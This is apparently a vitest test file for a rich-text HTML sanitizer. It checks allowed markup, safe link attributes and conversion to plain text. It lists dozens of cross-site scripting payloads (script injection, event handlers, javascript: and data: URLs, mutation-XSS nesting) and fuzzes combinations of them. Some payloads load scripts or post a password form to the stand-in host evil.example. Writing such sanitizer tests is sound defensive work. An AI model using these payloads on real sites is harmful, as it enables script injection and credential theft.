import fc from 'fast-check'
import { Window } from 'happy-dom'
import { describe, expect, test } from 'vitest'
import { richTextToPlain, sanitizedToPlain, sanitizeRichText } from './richtext.ts'

const TAGS = ['P', 'BR', 'H2', 'H3', 'H4', 'UL', 'OL', 'LI', 'STRONG', 'EM', 'U', 'A']

/** Reads the result as a browser would and lists what does not belong. */
const strangers = (html: string): string[] => {
  const window = new Window()
  window.document.body.innerHTML = html
  const found: string[] = []
  for (const element of window.document.body.querySelectorAll('*')) {
    if (!TAGS.includes(element.tagName)) found.push(element.tagName)
    for (const { name, value } of [...element.attributes]) {
      const ok = name === 'rel' || name === 'target' || (name === 'href' && /^(https?:\/\/|mailto:)/i.test(value ?? ''))
      if (element.tagName !== 'A' || !ok) found.push(`${element.tagName} ${name}=${value}`)
    }
  }
  window.close()
  return found
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">a</p>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java&#x0A;script:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href=" \u0001javascript:alert(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="vbscript:x">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/api/auth/logout">a</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,x"></object><embed src=x>',
  '<form action="https://evil.example"><input name=senha><button>ok</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import url(//evil.example)</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a href="https://ok.example" onmouseover=alert(1) target=_self rel=opener>a</a>',
  '<<script>script>alert(1)<</script>/script>',
  '<p><a href="https://x.example/&quot; onmouseover=&quot;alert(1)">a</a></p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
]

describe('text with marks that people write', () => {
  test('paragraphs, headings, lists, emphasis and links stay as they are', () => {
    const html =
      '<h2>Título</h2><p>Um <strong>dois</strong> <em>três</em> <u>quatro</u><br />cinco</p><ul><li><p>a</p></li></ul><ol><li>b</li></ol>'
    expect(sanitizeRichText(html)).toBe(html)
  })

  test('links open elsewhere and tell the other side nothing', () => {
    const rel = 'rel="noopener noreferrer nofollow" target="_blank"'
    expect(sanitizeRichText('<a href="https://gov.br" class="x">g</a>')).toBe(`<a href="https://gov.br" ${rel}>g</a>`)
    expect(sanitizeRichText('<a href="mailto:a@b.br">m</a>')).toBe(`<a href="mailto:a@b.br" ${rel}>m</a>`)
  })

  test('old marks become ours, unknown ones leave their text', () => {
    expect(sanitizeRichText('<h1>a</h1><b>b</b><i>c</i><span style="color:red">d</span>')).toBe(
      '<h2>a</h2><strong>b</strong><em>c</em>d',
    )
  })

  test.each(VECTORS)('%j does no harm', (html) => {
    const clean = sanitizeRichText(html)
    expect(strangers(clean)).toEqual([])
    expect(sanitizeRichText(clean)).toBe(clean)
  })

  test('whatever is glued together, only what is allowed comes out, and again the same', () => {
    const pieces = fc.oneof(
      fc.constantFrom(...VECTORS),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '</p>',
        '<p>',
        '<a href=',
        'javascript:',
        '<!--',
        '-->',
        '&lt;',
        '&#60;script&#62;',
        '<svg>',
        '</style>',
        '<math>',
        '\0',
      ),
      fc.string({ maxLength: 20 }),
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 8 }), (parts) => {
        const clean = sanitizeRichText(parts.join(''))
        expect(strangers(clean)).toEqual([])
        expect(sanitizeRichText(clean)).toBe(clean)
      }),
      { numRuns: 200 },
    )
  })

  test('without marks it reads line by line', () => {
    expect(
      richTextToPlain(
        '<h2>Ata</h2><p>Um &amp; dois<br>três</p><ul><li><p>a</p></li><li>b &lt; c</li></ul><script>x</script>',
      ),
    ).toBe('Ata\nUm & dois\ntrês\n- a\n- b < c')
    expect(richTextToPlain('&amp;lt;b&amp;gt;')).toBe('&lt;b&gt;')
  })

  test('what is kept reads the same the quick way, and one cut in the middle of a mark loses only that', () => {
    for (const html of [
      '<h2>Ata</h2><p>Um &amp; dois<br>três</p><ul><li><p>a</p></li><li>b &lt; c</li></ul>',
      '<p><a href="https://x.example/?a=1&b=2">um <strong>link</strong></a> e 2 &gt; 1</p>',
      '<p>&amp;lt;b&amp;gt;</p>',
    ]) {
      const kept = sanitizeRichText(html)
      expect(sanitizedToPlain(kept)).toBe(richTextToPlain(html))
    }
    expect(sanitizedToPlain('<p>um</p><p>dois</p><stro')).toBe('um\ndois')
  })
})
